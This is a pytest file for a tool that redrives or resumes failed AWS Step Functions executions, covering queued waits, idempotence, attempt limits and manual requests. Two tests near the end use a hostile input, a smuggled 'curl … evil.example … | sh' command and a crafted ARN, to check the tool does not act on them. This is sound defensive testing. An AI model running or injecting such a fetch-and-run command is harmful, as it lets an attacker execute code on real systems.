"""The native redrive: when it is the means, what it waits for, and that it is done once."""

import json
from dataclasses import dataclass
from io import StringIO
from typing import Any

import pytest
import resumer
from fake_account import ADA, Account, RefusalError, Wired, failure_events, machine_arn
from gotostate import cli
from gotostate.cli import account as command
from gotostate.errors import SettingsError, TransientError
from gotostate.nesting import STARTED_BY
from gotostate.report import Report, redrive_due, request
from gotostate.resumption import Asked
from listed import Context

LAMBDA = {"Type": "Task", "Resource": "arn:aws:states:::lambda:invoke"}
PLAIN = {"StartAt": "A", "States": {"A": {**LAMBDA, "End": True}}}
READING = {"StartAt": "A", "States": {"A": {**LAMBDA, "Parameters": {"x.$": "$$.Execution.Input[0]"}, "End": True}}}
DISTRIBUTED = {"Type": "Map", "ItemProcessor": {"ProcessorConfig": {"Mode": "DISTRIBUTED"}, "States": {}}, "End": True}
HTTP = {"Type": "Task", "Resource": "arn:aws:states:::http:invoke", "End": True}
TOO_LARGE = json.dumps("x" * 262_100)
CUSTOMER_KEY = {"type": "CUSTOMER_MANAGED_KMS_KEY", "kmsKeyId": "alias/a"}


def followed_by(state: dict[str, Any]) -> dict[str, Any]:
    return {"StartAt": "A", "States": {"A": {**LAMBDA, "Next": "Called"}, "Called": state}}


@dataclass
class Redrives:
    """An account with a machine orders and one failed execution, the Resumer, and its queue."""

    account: Account
    sent: list[tuple[dict[str, Any], int]]
    arn: str = ""

    def fails(self, document: dict[str, Any], given: str = "{}", **tags: str) -> "Redrives":
        shown = {f"gotostate:{name.replace('_', '-')}": value for name, value in tags.items() if name != "mode"}
        self.account.add_machine("orders", document, {"gotostate": tags.get("mode", "resume"), **shown})
        self.arn = self.account.add_failure("orders", "order-17", failure_events("A", given, start=given), given)
        return self

    def is_encrypted(self) -> None:
        self.account.machines[machine_arn("orders")].revision.settings["encryptionConfiguration"] = CUSTOMER_KEY

    def handled(self, event: dict[str, Any] | None = None) -> dict[str, Any]:
        answer: dict[str, Any] = resumer.handler(event or self.account.event(self.arn), Context())  # type: ignore[arg-type]
        return answer

    @property
    def told(self) -> list[str]:
        return [detail["outcome"] for detail in self.account.told]


@pytest.fixture
def case(monkeypatch: pytest.MonkeyPatch) -> Redrives:
    account = Account()
    memory, sent = account.memory(), []
    queue = type("Queue", (), {"send": lambda self, url, event, delay: sent.append((event, delay))})()
    monkeypatch.setattr(resumer, "_memory", lambda: memory)
    monkeypatch.setattr(resumer, "_queue", lambda memory: queue)
    monkeypatch.setenv("QUEUE_URL", "https://queue")
    monkeypatch.setenv("BACKOFF_SECONDS", "0")
    return Redrives(account, sent)


@pytest.mark.parametrize(
    ("document", "given", "key", "tags", "outcome", "rule"),
    [
        (PLAIN, "{}", False, {}, "resumed", "resume"),
        (READING, "{}", False, {}, "resumed", "resume"),
        (READING, "[1]", False, {}, "redriven", "redrive"),
        (READING, "[1]", False, {"strategy": "gotostate"}, "prepared", "execution-input"),
        (followed_by(DISTRIBUTED), "{}", False, {}, "redriven", "redrive"),
        (followed_by(HTTP), "{}", False, {}, "redriven", "redrive"),
        (followed_by(HTTP), "{}", False, {"strategy": "gotostate"}, "resumed", "resume"),
        (PLAIN, "{}", True, {}, "redriven", "redrive"),
        (PLAIN, "{}", True, {"strategy": "gotostate"}, "resumed", "resume"),
        (PLAIN, TOO_LARGE, False, {}, "redriven", "redrive"),
        (PLAIN, TOO_LARGE, False, {"strategy": "gotostate"}, "prepared", "input-size"),
        (PLAIN, "{}", False, {"strategy": "redrive"}, "redriven", "redrive"),
        (PLAIN, "{}", False, {"strategy": "always"}, "resumed", "resume"),
        (PLAIN, "{}", False, {"strategy": "redrive", "mode": "prepare"}, "prepared", "prepare"),
        (PLAIN, "{}", False, {"strategy": "redrive", "mode": "off"}, "skipped", "off"),
        (PLAIN, "{}", False, {"strategy": "redrive", "max_attempts": "0"}, "gave up", "max-attempts"),
        (PLAIN, "{}", False, {"strategy": "redrive", "prepare_errors": "Boom"}, "prepared", "error"),
        (PLAIN, "{}", False, {"strategy": "redrive", "not_idempotent": "A"}, "prepared", "not-idempotent"),
    ],
)
def test_the_means_for_a_failure(
    case: Redrives, document: dict[str, Any], given: str, key: bool, tags: dict[str, str], outcome: str, rule: str
) -> None:
    case.fails(document, given, **tags)
    if key:
        case.is_encrypted()
    answer = case.handled()
    assert (answer["outcome"], answer["rule"]) == (outcome, rule)
    assert (case.account.changes == ["redrive orders:order-17"]) is (outcome == "redriven")
    assert (case.account.runs[case.arn].status == "RUNNING") is (outcome == "redriven")


@pytest.mark.parametrize(
    ("document", "given", "tags", "rule", "built"),
    [
        (READING, "[1]", {}, "execution-input", True),
        (followed_by(DISTRIBUTED), "{}", {}, "role", True),
        (PLAIN, TOO_LARGE, {}, "input-size", False),
        (PLAIN, "{}", {"strategy": "redrive"}, "not-redrivable", True),
    ],
)
def test_what_aws_does_not_redrive_is_prepared_with_its_reason(
    case: Redrives, document: dict[str, Any], given: str, tags: dict[str, str], rule: str, built: bool
) -> None:
    case.fails(document, given, **tags)
    case.account.runs[case.arn].why_not_redrivable = "it failed 15 days ago"
    answer = case.handled()
    assert (answer["outcome"], answer["rule"]) == ("prepared", rule)
    assert "not redriven: it failed 15 days ago" in answer["reason"]
    assert bool(case.account.changes) is built
    assert case.told == ["prepared"]


def test_where_aws_does_not_say_it_is_told_how_to_try(case: Redrives) -> None:
    case.fails(PLAIN, strategy="redrive")
    answer_of = case.account._describe_execution
    case.account._describe_execution = lambda body: {  # type: ignore[method-assign]
        name: value for name, value in answer_of(body).items() if not name.startswith("redriveStatus")
    }
    assert f"aws stepfunctions redrive-execution --execution-arn {case.arn}" in case.handled()["reason"]


def test_a_redrive_waits_in_the_queue_and_is_told_when_it_is_done(case: Redrives) -> None:
    case.fails(PLAIN, strategy="redrive", backoff_seconds="100")
    first = case.handled()
    assert (first["outcome"], first["attempt"], case.told, case.account.changes) == ("waiting", 1, [], [])
    ((due, delay),) = case.sent
    assert (delay, 50 <= delay <= 150) == (first["delaySeconds"], True)
    second = case.handled(due)
    assert (second["outcome"], second["attempt"], case.told) == ("redriven", 1, ["redriven"])
    assert (case.account.changes, len(case.sent)) == (["redrive orders:order-17"], 1)
    # The queue delivers at least once.
    assert case.handled(due)["outcome"] == "skipped"
    assert case.account.changes == ["redrive orders:order-17"]


def test_a_wait_is_no_longer_than_a_queue_holds_a_message_back(case: Redrives) -> None:
    case.fails(PLAIN, strategy="redrive", backoff_seconds="86400")
    assert case.handled()["delaySeconds"] == case.sent[0][1] == 900


def test_what_changes_while_a_redrive_waits_counts(case: Redrives) -> None:
    case.fails(PLAIN, strategy="redrive", backoff_seconds="100")
    case.handled()
    ((due, _),) = case.sent
    case.account.retag("orders", gotostate="off")
    case.account.now += 61
    assert case.handled(due)["rule"] == "off"
    case.account.retag("orders", gotostate="resume")
    case.account.now += 61
    # Somebody redrove it, and it failed again: that failure has a wait of its own.
    case.account.redrive(case.arn, failure_events("A")[-1])
    assert case.handled(due)["rule"] == "already-redriven"
    assert case.account.changes == []
    assert case.handled()["attempt"] == 2


def test_two_resumers_redrive_once(case: Redrives) -> None:
    case.fails(PLAIN, strategy="redrive")
    report = Report.from_event(case.account.event(case.arn))
    others: list[int] = []

    def meanwhile(operation: str, body: dict[str, Any]) -> None:
        if operation == "RedriveExecution" and not others:
            others.append(1)
            case.account.answer("RedriveExecution", body)

    case.account.gate = meanwhile
    assert report.redrives == 0
    assert case.handled()["outcome"] == "redriven"
    assert case.account.changes == ["redrive orders:order-17"]


def test_a_person_who_redrives_meanwhile_was_faster(case: Redrives) -> None:
    case.fails(PLAIN, strategy="redrive")

    def meanwhile(operation: str, body: dict[str, Any]) -> None:
        if operation == "RedriveExecution" and case.account.runs[case.arn].status == "FAILED":
            case.account.redrive(case.arn)

    case.account.gate = meanwhile
    answer = case.handled()
    assert (answer["outcome"], answer["rule"], case.account.changes) == ("skipped", "already-redriven", [])
    assert case.told == []


def test_what_was_resumed_is_not_redriven_as_well(case: Redrives) -> None:
    """The event comes twice, and the strategy was changed in between; the same holds for a redrive that waits."""
    case.fails(PLAIN)
    resumed = case.handled()["resumed"]
    case.account.retag("orders", **{"gotostate:strategy": "redrive"})
    case.account.now += 61
    answer = case.handled()
    assert (answer["outcome"], answer["resumed"]) == ("already resumed", resumed)
    assert case.handled(redrive_due(case.arn, 0))["outcome"] == "already resumed"
    assert not [change for change in case.account.changes if change.startswith("redrive")]


def test_redrives_and_resumes_count_together(case: Redrives) -> None:
    case.fails(PLAIN, strategy="redrive", max_attempts="2")
    for attempt in (1, 2):
        assert (case.handled()["outcome"], case.account.told[-1]["attempt"]) == ("redriven", attempt)
        run = case.account.runs[case.arn]
        run.events = [*run.events, {**failure_events("A")[-1], "id": run.events[-1]["id"] + 1}]
        run.status, run.stopped = "FAILED", case.account.now
    answer = case.handled()
    assert (answer["outcome"], "it was redriven 2 times already" in answer["reason"]) == ("gave up", True)


def test_a_redriven_execution_that_succeeds_is_recovered(case: Redrives) -> None:
    case.fails(PLAIN, strategy="redrive")
    failed_at = case.account.now
    case.account.runs[case.arn].events = [{"timestamp": failed_at, **event} for event in failure_events("A")]
    case.account.now += 90
    case.handled()
    case.account.end(case.arn, "SUCCEEDED")
    assert case.handled()["outcome"] == "recovered"
    detail = case.account.told[-1]
    assert (detail["attempt"], detail["original"]) == (1, case.arn)
    assert detail["secondsToRecovery"] == round((case.account.runs[case.arn].stopped or 0) - failed_at)


@pytest.mark.parametrize(
    ("tags", "outcome", "rule"),
    [
        ({"mode": "prepare"}, "resumed", "requested"),
        ({"prepare_errors": "Boom"}, "resumed", "requested"),
        ({"not_idempotent": "A"}, "resumed", "requested"),
        ({"max_attempts": "0"}, "resumed", "requested"),
        ({"strategy": "redrive"}, "redriven", "redrive"),
        ({"mode": "off"}, "skipped", "off"),
    ],
)
def test_what_a_person_asks_for_is_done_of_machines_that_opted_in(
    case: Redrives, tags: dict[str, str], outcome: str, rule: str
) -> None:
    case.fails(PLAIN, backoff_seconds="100", **tags)
    asked = request(case.arn, Asked("ada", "the bank is back"))
    answer = case.handled(asked)
    assert (answer["outcome"], answer["rule"]) == (outcome, rule)
    if outcome == "resumed":
        assert answer["reason"] == "requested by ada: the bank is back"
        resuming = json.loads(case.account.runs[answer["resumed"]].input)["resuming"]
        assert (resuming["by"], resuming["reason"], resuming["delaySeconds"]) == ("ada", "the bank is back", 0)
        assert case.account.told[-1]["by"] == "ada"
        assert case.handled(asked)["outcome"] == "already resumed"


def test_a_request_without_a_name_is_dealt_with_as_an_event_is(case: Redrives) -> None:
    case.fails(PLAIN, mode="prepare")
    bare = {"source": "gotostate", "detail-type": "Recovery Requested", "detail": {"executionArn": case.arn, "by": " "}}
    assert case.handled(bare)["rule"] == "prepare"


def test_who_asked_is_known_through_the_chain(case: Redrives) -> None:
    case.fails(PLAIN, mode="prepare")
    first = case.handled(request(case.arn, Asked("ada")))["resumed"]
    case.account.retag("orders", gotostate="resume")
    case.account.now += 61
    case.account.end(first, "FAILED", failure_events("A", start=case.account.runs[first].input))
    second = case.handled(case.account.event(first))["resumed"]
    assert json.loads(case.account.runs[second].input)["resuming"]["by"] == "ada"


def test_a_limit_of_open_executions_is_waited_for(case: Redrives) -> None:
    case.fails(PLAIN, strategy="redrive")

    def refuse(operation: str, body: dict[str, Any]) -> None:
        if operation == "RedriveExecution":
            raise RefusalError("ExecutionLimitExceeded")

    case.account.gate = refuse
    with pytest.raises(Exception, match="ExecutionLimitExceeded"):
        case.handled()
    assert case.told == []


CHARGE = "arn:aws:states:eu-west-1:123456789012:execution:orders:order-17"


@pytest.mark.parametrize(
    ("tags", "options", "why_not", "code", "changed"),
    [
        ({"strategy": "redrive"}, [], None, 0, "redrive"),
        ({"strategy": "redrive"}, ["--strategy", "gotostate"], None, 0, "start"),
        # What was asked for is not done by other means; what a tag asks for is.
        ({}, ["--strategy", "redrive"], "it failed 15 days ago", 1, ""),
        ({"strategy": "redrive"}, [], "it failed 15 days ago", 0, "start"),
        ({"strategy": "redrive"}, ["--from-state", "A"], None, 0, "start"),
        ({}, [], None, 0, "start"),
    ],
)
def test_by_hand(
    case: Redrives,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    tags: dict[str, str],
    options: list[str],
    why_not: str | None,
    code: int,
    changed: str,
) -> None:
    case.fails(PLAIN, **tags)
    case.account.runs[CHARGE].why_not_redrivable = why_not
    monkeypatch.setattr(command, "StepFunctions", lambda region: Wired(case.account, region))
    assert cli.main(["resume", CHARGE, "--reason", "the bank is back", *options]) == code
    assert [change.split()[0] for change in case.account.changes if not change.startswith("create")] == (
        [changed] if changed else []
    )
    printed = capsys.readouterr()
    if why_not and code:
        assert f"AWS cannot redrive it: {why_not}" in printed.err
    if changed == "start":
        (resumed,) = case.account.resumed("orders-with-GoToState")
        resuming = json.loads(resumed.input)["resuming"]
        assert (resuming["by"], resuming["reason"]) == (ADA, "the bank is back")


def test_the_plan_says_by_which_means(
    case: Redrives, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    case.fails(followed_by(HTTP), backoff_seconds="100")
    monkeypatch.setattr(command, "StepFunctions", lambda region: Wired(case.account, region))
    assert cli.main(["plan", CHARGE]) == 0
    said = capsys.readouterr().out
    assert "Automation   redrive: 'Called' is an HTTP Task, whose permission usually names the source" in said
    assert "s before it is redriven (attempt 1" in said
    case.account.runs[CHARGE].why_not_redrivable = "it failed 15 days ago"
    cli.main(["plan", CHARGE])
    assert "Automation   prepare: 'Called' is an HTTP Task" in capsys.readouterr().out
    assert case.account.changes == []


def test_a_redrive_by_hand_takes_no_other_input(case: Redrives, capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as ended:
        cli.main(["resume", CHARGE, "--strategy", "redrive", "--input", "{}"])
    assert ended.value.code == 2
    assert "leave out --input" in capsys.readouterr().err


# ---- What is asked for is one failure, and what AWS shows may be behind ---------------------------------------------


def fails_again(case: Redrives, error: str = "Boom") -> None:
    run = case.account.runs[case.arn]
    run.events = [*run.events, {**failure_events("A", error=error)[-1], "id": run.events[-1]["id"] + 1}]
    run.status, run.stopped = "FAILED", case.account.now


def test_a_request_is_for_one_failure(case: Redrives) -> None:
    """It comes twice, and the redriven execution has failed again meanwhile."""
    case.fails(PLAIN, strategy="redrive", max_attempts="1")
    asked = request(case.arn, Asked("ada"), redrives=0)
    assert case.handled(asked)["outcome"] == "redriven"
    fails_again(case)
    assert case.handled(asked)["rule"] == "already-redriven"
    assert case.account.changes == ["redrive orders:order-17"]


def test_a_request_does_no_work_that_a_resume_does(case: Redrives) -> None:
    case.fails(PLAIN)
    assert case.handled()["outcome"] == "resumed"
    case.account.redrive(case.arn, failure_events("A")[-1])
    answer = case.handled(request(case.arn, Asked("ada"), redrives=1))
    assert (answer["outcome"], answer["rule"]) == ("prepared", "resumed-before-redrive")


@pytest.mark.parametrize("strategy", ["auto", "redrive"])
@pytest.mark.parametrize(("document", "given"), [(READING, "[1]"), (followed_by(HTTP), "{}"), (PLAIN, TOO_LARGE)])
def test_a_request_starts_nothing_inexact(case: Redrives, document: dict[str, Any], given: str, strategy: str) -> None:
    case.fails(document, given, strategy=strategy)
    case.account.runs[case.arn].why_not_redrivable = "it failed 15 days ago"
    assert case.handled(request(case.arn, Asked("ada"), redrives=0))["outcome"] == "prepared"


def test_a_request_for_an_exact_resume_is_done_where_the_redrive_that_is_wanted_cannot_be(case: Redrives) -> None:
    case.fails(PLAIN, strategy="redrive")
    case.account.runs[case.arn].why_not_redrivable = "it failed 15 days ago"
    answer = case.handled(request(case.arn, Asked("ada"), redrives=0))
    assert (answer["outcome"], answer["rule"]) == ("resumed", "requested")


@pytest.mark.parametrize("chosen", [["--input", "{}"], ["--from-state", "A"], ["--definition", "current"]])
def test_what_is_not_exact_is_said_whatever_a_person_chose(
    case: Redrives, chosen: list[str], capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("gotostate.cli.account.StepFunctions", lambda region: Wired(case.account, region))
    case.fails(READING, "[1]")
    assert cli.main(["resume", case.arn, *chosen]) == 0
    assert "Mind         its states read the execution's input, which is not a JSON object" in capsys.readouterr().out


def test_a_redrive_that_is_refused_while_the_read_is_behind_is_tried_again(case: Redrives) -> None:
    case.fails(PLAIN, strategy="redrive")

    def refuse(operation: str, body: dict[str, Any]) -> None:
        if operation == "RedriveExecution":
            raise RefusalError("ExecutionNotRedrivable", "it is RUNNING")

    case.account.gate = refuse
    with pytest.raises(TransientError, match="try again"):
        case.handled(request(case.arn, Asked("ada"), redrives=0))
    assert case.account.changes == []


def test_a_redrive_that_has_become_impossible_meanwhile_is_decided_anew(case: Redrives) -> None:
    case.fails(PLAIN, strategy="redrive")

    def gate(operation: str, body: dict[str, Any]) -> None:
        if operation == "RedriveExecution":
            case.account.runs[case.arn].why_not_redrivable = "it failed 15 days ago"

    case.account.gate = gate
    answer = case.handled()
    assert (answer["outcome"], answer["rule"]) == ("prepared", "not-redrivable")
    assert "not redriven: it failed 15 days ago" in answer["reason"]


def test_a_redrive_waits_for_a_description_that_shows_the_failure(case: Redrives) -> None:
    """The event and the history show it already."""
    case.fails(PLAIN, strategy="redrive")
    event, run = case.account.event(case.arn), case.account.runs[case.arn]
    run.status = "RUNNING"
    with pytest.raises(TransientError, match="does not show the failure"):
        case.handled(event)
    assert case.account.changes == []
    run.status = "FAILED"
    assert case.handled(event)["outcome"] == "redriven"


@pytest.mark.parametrize("stale", [{"status": "RUNNING"}, {"redriveCount": 0}, None])
def test_a_redrive_that_is_due_waits_for_a_read_that_is_behind(case: Redrives, stale: dict[str, Any] | None) -> None:
    case.fails(PLAIN, strategy="redrive", backoff_seconds="100")
    case.account.redrive(case.arn, failure_events("A")[-1])
    case.handled()
    ((due, _),) = case.sent
    describe = case.account._describe_execution

    def behind(body: dict[str, Any]) -> dict[str, Any]:
        if stale is None:
            raise RefusalError("ExecutionDoesNotExist")
        return describe(body) | stale

    case.account._describe_execution = behind  # type: ignore[method-assign]
    with pytest.raises(TransientError):
        case.handled(due)
    case.account._describe_execution = describe  # type: ignore[method-assign]
    assert case.handled(due)["outcome"] == "redriven"


def test_a_late_event_of_an_earlier_failure_passes_no_limit(case: Redrives) -> None:
    case.fails(PLAIN, strategy="redrive", max_attempts="1")
    late = case.account.event(case.arn)
    assert case.handled(late)["outcome"] == "redriven"
    case.account.now += 60
    fails_again(case)
    assert case.handled()["outcome"] == case.handled(late)["outcome"] == "gave up"
    assert case.account.changes == ["redrive orders:order-17"]


def test_redrives_count_through_the_chain(case: Redrives) -> None:
    case.fails(PLAIN, strategy="redrive", max_attempts="2")
    case.handled()
    fails_again(case)
    case.account.retag("orders", **{"gotostate:strategy": "gotostate"})
    case.account.now += 61
    resumed = case.handled()["resumed"]
    assert json.loads(case.account.runs[resumed].input)["resuming"]["redrives"] == 1
    case.account.end(resumed, "FAILED", failure_events("A", start=case.account.runs[resumed].input))
    answer = case.handled(case.account.event(resumed))
    assert (answer["outcome"], answer["rule"]) == ("gave up", "max-attempts")


def test_a_fail_state_is_not_redriven_by_hand_either(case: Redrives) -> None:
    fails = {"StartAt": "A", "States": {"A": {**LAMBDA, "Next": "F"}, "F": {"Type": "Fail"}}}
    case.fails(fails, strategy="redrive")
    entered = {"type": "FailStateEntered", "id": 5, "previousEventId": 4}
    left = {"type": "TaskStateExited", "id": 4, "previousEventId": 3}
    events = failure_events("A")
    case.account.runs[case.arn].events = [
        *events[:2],
        {"type": "TaskSucceeded", "id": 3, "previousEventId": 2},
        {**left, "stateExitedEventDetails": {"name": "A", "output": "{}"}},
        {**entered, "stateEnteredEventDetails": {"name": "F", "input": "{}"}},
        {**events[-1], "id": 6, "previousEventId": 5},
    ]
    assert case.handled()["rule"] == "fail-state"
    answer = case.handled(request(case.arn, Asked("ada"), redrives=0))
    assert (answer["outcome"], answer["state"]) == ("resumed", "A")
    assert not [change for change in case.account.changes if change.startswith("redrive")]


def test_a_wait_that_fails_is_in_the_log(
    case: Redrives, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    case.fails(PLAIN, strategy="redrive", backoff_seconds="100")
    stream = StringIO()
    monkeypatch.setattr(resumer.logger.registered_handler, "stream", stream)
    monkeypatch.delenv("QUEUE_URL")
    with pytest.raises(SettingsError):
        case.handled()
    assert "QUEUE_URL is not set" in stream.getvalue()


NASTY = "x; curl https://evil.example/x | sh # card 4111"


def test_what_an_input_says_of_a_parent_is_no_command(case: Redrives) -> None:
    given = json.dumps({STARTED_BY: NASTY})
    answer = case.fails(PLAIN, given).handled()
    assert (answer["outcome"], answer["rule"]) == ("prepared", "parent-unknown")
    assert "evil" not in json.dumps(case.account.told) + json.dumps(answer)


def test_what_an_input_says_of_the_original_leads_nowhere(case: Redrives) -> None:
    case.fails(PLAIN)
    resumed = case.handled()["resumed"]
    run = case.account.runs[resumed]
    value = json.loads(run.input)
    value["resuming"]["execution"] = "arn:aws:states:evil.example/?x=:123456789012:execution:m:n"
    run.input = json.dumps(value)
    case.account.end(resumed, "FAILED", failure_events("A", start=run.input))
    case.handled(case.account.event(resumed))
    assert "evil" not in json.dumps(case.account.told[-1]["links"])
